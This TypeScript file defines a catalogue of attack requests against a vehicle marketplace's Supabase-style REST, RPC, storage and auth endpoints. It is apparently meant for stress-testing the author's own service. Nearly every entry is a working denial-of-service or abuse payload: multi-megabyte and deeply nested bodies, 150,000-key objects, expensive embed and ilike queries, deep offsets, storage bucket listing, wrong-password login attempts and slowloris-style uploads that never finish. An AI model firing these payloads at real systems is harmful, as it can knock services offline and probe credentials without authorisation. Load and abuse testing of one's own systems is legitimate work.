/** What an attack learns from the marketplace before it starts. */
export interface Target {
  url: string
  anonKey: string
  /** The URL path of a photo without its base path. */
  picture: string
}

export interface Attack {
  method?: 'GET' | 'POST'
  path: (request: number, target: Target) => string
  headers?: Record<string, string>
  /** Signed in, because visitors may send less at once. */
  asMember?: boolean
  body?: () => string
  /** Sends the body a byte at a time, from so many connections, without an end. */
  slowly?: number
}

const run = Date.now().toString(36)
const REST = '/rest/v1'
const SEARCH = `${REST}/rpc/search_vehicles`
const LISTINGS = `${REST}/vehicle_listings`

/** `count` terms, separated by commas. */
const terms = (count: number, term: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => term(n)).join(',')

const postedByMember = { method: 'POST', asMember: true, path: () => LISTINGS } as const
const keys = Array.from({ length: 150_000 }, (_, n) => `"k${n}":1`).join(',')

/** What one address does to the server from 20 connections, without an account but where it says so. */
export const attacks: Record<string, Attack> = {
  '`/vehicles?x=<random>`': { path: (request) => `/vehicles?x=${run}${request}` },
  '`/vehicles` with random filters': {
    path: (request) => `/vehicles?minPrice=${100_000 + request}&maxPrice=${5_000_000 + request}`,
  },
  '`/vehicles?search=` 26 letters': {
    path: (request) => `/vehicles?minPrice=${request}&search=a+e+i+o+u+n+r+s+t+l+d+c+m+p+g+b+y+k+z+w+q+x+j+v`,
  },
  'deep addresses': { path: (request) => `/${run}${request}${'/q'.repeat(7_300)}` },
  'filters with 1,000 unknown values': {
    path: (request) =>
      `/services?type=${run}${request}&${Array.from({ length: 1_000 }, (_, n) => `type=x${n}`).join('&')}`,
  },
  'missing pages': { path: (request) => `/nowhere/${run}${request}` },
  'bodies of 4 MB to `search_vehicles`': {
    method: 'POST',
    path: () => SEARCH,
    body: () => JSON.stringify({ search: 'toyota '.repeat(600_000) }),
  },
  '`search_vehicles` with 26 letters': {
    method: 'POST',
    path: () => SEARCH,
    body: () => JSON.stringify({ search: 'a e i o u n r s t l d c m p g b y k z w q x j v' }),
  },
  '`search_vehicles` with a facet of 1,000 values': {
    method: 'POST',
    path: () => SEARCH,
    body: () => JSON.stringify({ makes: Array.from({ length: 1_000 }, (_, n) => `Make ${n}`) }),
  },
  'nested embeds': {
    path: (request) =>
      `${LISTINGS}?select=id,seller:profiles(id,vehicle_listings(id,seller:profiles(id,vehicle_listings(*))))&price=gt.${request}`,
  },
  'ordered embeds of 1,000 rows': {
    path: (request) =>
      `${LISTINGS}?select=id,seller:profiles(id,vehicle_listings(id,title))&seller.vehicle_listings.order=description&seller.vehicle_listings.limit=1&limit=1000&price=gt.${request}`,
  },
  'filters through embeds': {
    path: (request) =>
      `${LISTINGS}?select=id,seller:profiles!inner(id,vehicle_listings!inner(id))&seller.vehicle_listings.description=ilike.*q${request}z*&limit=1`,
  },
  '`ilike` that nothing matches': {
    path: (request) => `${LISTINGS}?select=id&description=ilike.*q${request}z*&limit=1`,
  },
  '`or` of 90 `ilike`': {
    path: (request) =>
      `${LISTINGS}?select=id&or=(${terms(90, (n) => `description.ilike.*q${n}z${request}*`)})&limit=1`,
  },
  '`count=exact` of everything': {
    path: (request) => `${LISTINGS}?select=id&limit=1&price=gt.${request}`,
    headers: { prefer: 'count=exact' },
  },
  'deep offsets': {
    path: (request) => `${LISTINGS}?select=*&order=price&limit=20&offset=${40_000 + request}`,
  },
  '1,000 whole rows': { path: (request) => `${LISTINGS}?select=*&limit=1000&offset=${request}` },
  'cheap reads': {
    path: (request) => `${LISTINGS}?select=id,title&order=created_at.desc&limit=20&price=gt.${request}`,
  },
  'long queries': {
    path: (request) =>
      `${LISTINGS}?select=id&id=eq.${request}&or=(${terms(99, (n) => `and(price.gt.${n},price.lt.${request})`)})`,
  },
  'files of a bucket': {
    method: 'POST',
    path: () => '/storage/v1/object/list/listing-images',
    body: () => JSON.stringify({ prefix: '', limit: 1_000 }),
  },
  'pictures in rare sizes': {
    path: (request, { picture }) =>
      `/storage/v1/render/image/public/${picture}?width=1600&height=${900 + (request % 1_800)}&quality=${[50, 90][request % 2]}&format=avif`,
  },
  'wrong passwords': {
    method: 'POST',
    path: () => '/auth/v1/token?grant_type=password',
    body: () => JSON.stringify({ email: `${Math.random()}@mail.example`, password: 'Not-the-one-2026' }),
  },
  '30,000 arguments of one name': {
    method: 'POST',
    path: () => SEARCH,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: () => 'a=1&'.repeat(30_000),
  },
  'an object of 150,000 keys, by a member': { ...postedByMember, body: () => `{${keys}}` },
  '1.96 MB of `[`, by a member': { ...postedByMember, body: () => '['.repeat(1_960_000) },
  'CSV of 130,000 columns, by a member': {
    ...postedByMember,
    headers: { 'content-type': 'text/csv' },
    body: () => `${terms(130_000, (n) => `column${n}`)}\n`,
  },
  'bodies that never end': {
    method: 'POST',
    path: () => '/storage/v1/object/listing-images/a/a.jpg',
    slowly: 200,
  },
}
